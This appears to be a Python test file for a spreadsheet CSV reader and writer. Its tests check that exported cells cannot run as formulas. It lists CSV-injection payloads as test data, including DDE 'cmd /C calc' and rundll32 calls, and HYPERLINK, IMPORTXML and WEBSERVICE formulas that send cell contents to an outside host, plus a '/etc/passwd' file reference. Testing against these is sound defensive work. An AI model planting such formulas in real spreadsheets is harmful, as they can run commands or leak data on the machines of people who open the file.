"""A table says the same after a spreadsheet had it, and nothing in it is ever computed."""

import csv
import io
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from councilkit.characters import has_forbidden
from councilkit.spreadsheets import SheetWrong, read_csv, write_csv

BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff+",
]
FORMULAS = [
    "cmd|'/C calc'!A0",
    "1+1",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'HYPERLINK("https://example.no?leak="&A1;"Åpne")',
    'IMPORTXML(CONCAT("https://example.no?v=", A2), "//a")',
    'WEBSERVICE("https://example.no/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "'file:///etc/passwd'#$passwd.A1",
    "A1;=1+1",
    "A1,=1+1",
    'A1";=1+1',
    "A1\n=1+1",
    "A1\r\n=1+1",
    "-2+3+cmd|' /C calc'!D2",
]
PAYLOADS = [beginning + formula for beginning, formula in product(BEGINNINGS, FORMULAS)]
TRIGGERS = set("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")

texts = st.text().filter(lambda text: not has_forbidden(text)).map(str.strip)


def reopened(table: str) -> list[list[str]]:
    """Read it as another program would, which knows nothing of our apostrophes."""
    return list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    table = write_csv(["name", "note"], [{"name": "Modig Lykt", "note": payload}])
    assert reopened(table) == [["name", "note"], ["Modig Lykt", f"'{payload}"]]
    assert not any(cell[:1] in TRIGGERS for row in reopened(table) for cell in row)
    [(_, row)] = read_csv(table.encode())
    assert row["note"] == payload.strip()


@given(st.lists(st.tuples(texts, texts), max_size=5))
def test_what_is_written_is_read_back(cells: list[tuple[str, str]]) -> None:
    rows = [{"name": name, "note": note} for name, note in cells]
    read = [row for _, row in read_csv(write_csv(["name", "note"], rows).encode())]
    assert read == [row for row in rows if any(row.values())]


def test_norwegian_excel_opens_a_table_as_it_is() -> None:
    table = write_csv(["navn", "møter"], [{"navn": "Blid Skigard", "møter": 3}, {"navn": None}])
    assert table == '\ufeff"navn";"møter"\r\n"Blid Skigard";"3"\r\n"";""\r\n'


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_table_is_read_as_any_program_wrote_it(delimiter: str, encoding: str, end: str) -> None:
    lines = [delimiter.join(["name", "unit"]), delimiter.join(["Rolig Fjord", "Nav Tønsberg"]), ""]
    assert read_csv(end.join(lines).encode(encoding)) == [(2, {"name": "Rolig Fjord", "unit": "Nav Tønsberg"})]


def test_a_row_is_told_by_the_line_on_which_it_begins() -> None:
    assert read_csv(b'a;b\n"one\ntwo";1\n\n;\nthree;2') == [
        (2, {"a": "one\ntwo", "b": "1"}),
        (6, {"a": "three", "b": "2"}),
    ]


def test_a_short_row_has_empty_cells() -> None:
    assert read_csv(b"a;b\n1") == [(2, {"a": "1", "b": ""})]


@pytest.mark.parametrize(
    ("table", "field"),
    [
        (b"", "/1"),
        (b";\n1;2", "/1"),
        (b"a;\n1;2", "/1"),
        (b"a;a\n1;2", "/1/a"),
        (b"a;=1+1;=1+1\n", "/1"),
        (b"a;b\n1;2\n1;2;3", "/3"),
        (b'a;b\n1;2\n"1;2', "/3"),
        (b'a;b\n"1"2;3', "/2"),
        (b"a;b\n1;\x00", "/2/b"),
        ("a;b\n1;\u202e2".encode(), "/2/b"),
        (b"a;b\n" + b"x" * 140_000, "/2"),
        (b"x" * 140_000 + b"\n1", "/1"),
        (b"a;b\n\x81;2", "/1"),
        ("a;b\n1;2".encode("utf-16"), "/1"),
    ],
)
def test_what_is_wrong_is_told_by_line_and_column(table: bytes, field: str) -> None:
    with pytest.raises(SheetWrong) as refused:
        read_csv(table)
    assert refused.value.field == field
    assert refused.value.detail.startswith(f"Line {field.split('/')[1]}")
